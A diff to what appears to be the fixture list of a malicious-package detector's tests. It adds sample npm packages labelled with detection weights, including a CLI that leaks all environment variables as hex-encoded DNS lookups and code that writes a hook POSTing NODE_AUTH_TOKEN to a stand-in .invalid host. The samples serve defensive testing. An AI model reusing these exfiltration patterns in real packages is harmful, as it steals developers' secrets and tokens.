@@ -305,6 +305,15 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       weight: 'proof',
     },
     {
+      when: 'its command looks up names that all of it is written into, below a domain that is called like the package',
+      id: { name: 'specimen-runner' },
+      files: {
+        'package.json': { name: 'specimen-runner', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst text = Object.entries(process.env).filter(([name]) => !/^PWD$/.test(name)).map(one => one.join('=')).join(' '); require('dns').resolveTxt(Buffer.from(text).toString('hex') + '.up.specimen-runner.invalid', () => {});`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a token goes out as a name',
       files: {
         'package.json': hook,
@@ -368,6 +377,13 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
         'send.js': `exports.send = list => fetch('https://acme-report.invalid/', { method: 'POST', body: list.join() });`,
       },
       weight: 'context',
+    },
+    {
+      when: 'code that it writes into a file does it, with the module of Node',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); const HOOK = "var token = process.env.NODE_AUTH_TOKEN; if (token) { var asked = require('https').request({ host: 'tint.specimen.invalid', method: 'POST' }); asked.end(token); }"; exports.settle = dir => fs.writeFileSync(path.join(dir, 'hook.js'), HOOK);`,
+      },
+      weight: 'strong',
     },
     {
       when: 'each variable goes into names below a domain of the code, when somebody loads settings',
